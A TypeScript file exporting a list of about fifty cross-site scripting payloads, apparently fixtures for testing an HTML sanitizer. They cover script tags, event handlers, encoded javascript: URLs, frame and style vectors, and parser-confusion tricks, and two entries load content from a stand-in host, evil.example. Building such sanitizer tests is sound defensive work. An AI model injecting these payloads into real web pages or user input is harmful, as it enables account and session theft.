/**
 * Texts that try to run something where they are shown. None is longer than a name may be, and each is harmful as it is:
 * `moot(…)` stands for the script of an attacker.
 */
export const payloads: readonly string[] = [
  // Elements that run their content.
  '<script>moot(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT >',
  '<script\n>moot(3)</script\t\n bogus>',
  '<scr<script>ipt>moot(4)</scr</script>ipt>',
  '<<script>moot(5);//<</script>',
  '<script>/*</script><script>*/moot(6)</script>',
  '"><script>moot(7)</script><"',
  "'-moot(8)-'</title><script>moot(8)</script>",
  // Handlers, however they are parted from their element.
  '<img src=x onerror=moot(9)>',
  '<img/src="x"/onerror="moot(10)">',
  '<img src=x\fonerror\n=\rmoot(11)>',
  '<img src=`x` onerror=`moot(12)`>',
  '<img """><img src=x onerror=moot(13)>">',
  '<p ONCLICK="moot(14)" id=ok>press</p>',
  '<b onmouseover=moot(15)>over</b>',
  '<details open ontoggle=moot(16)><summary>s</summary></details>',
  '<video><source onerror=moot(17)></video>',
  '<audio src=x onerror=moot(18) autoplay>',
  '<input autofocus onfocus=moot(19)>',
  '<body onload=moot(20)><p>text',
  '<div style="animation:x 1s" onanimationstart=moot(21)>a</div>',
  '<a href="https://example.org/" onclick="moot(22)">link</a>',
  '<marquee onstart=moot(23)>m</marquee>',
  // Addresses that are programs.
  '<a href="javascript:moot(24)">a</a>',
  '<a href=" \tjAvAsCrIpT\n:moot(25)">a</a>',
  '<a href="&#106;&#x61;vascript&colon;moot(26)">a</a>',
  '<a href="java&Tab;script&NewLine;:moot(27)">a</a>',
  '<a href="&#0000106avascript:moot(28)">a</a>',
  '<a href="\u0001javascript:moot(29)">a</a>',
  '<a href="vbscript:moot(30)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5tb290KDMxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="view-source:javascript:moot(32)">a</a>',
  '<img src="javascript:moot(33)" alt="i">',
  '<table background="javascript:moot(34)"><tr><td>c</td></tr></table>',
  // What loads or replaces the page.
  '<iframe srcdoc="<script>moot(35)</script>"></iframe>',
  '<object data="data:text/html,<script>moot(36)</script>"></object>',
  '<embed src="javascript:moot(37)">',
  '<base href="//evil.example/"><a href="x">a</a>',
  '<meta http-equiv=refresh content="0;url=javascript:moot(39)">',
  '<link rel=stylesheet href="javascript:moot(40)">',
  '<form action="javascript:moot(41)"><button formaction="javascript:moot(41)">b</button></form>',
  // Styles.
  '<p style="background:url(javascript:moot(42))">a</p>',
  '<p style="width:expression(moot(43));position:fixed">a</p>',
  '<style>@import "javascript:moot(44)";</style>',
  // Other languages inside, and what changes its meaning when it is read twice.
  '<svg/onload=moot(45)>',
  '<svg><animate attributeName=href values=javascript:moot(46) /><a><text>a</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=moot(47)>">',
  '<noscript><p title="</noscript><img src=x onerror=moot(48)>">',
  '<textarea><img title="</textarea><img src=x onerror=moot(49)>">',
  '<!--><img src=x onerror=moot(50)>-->',
]
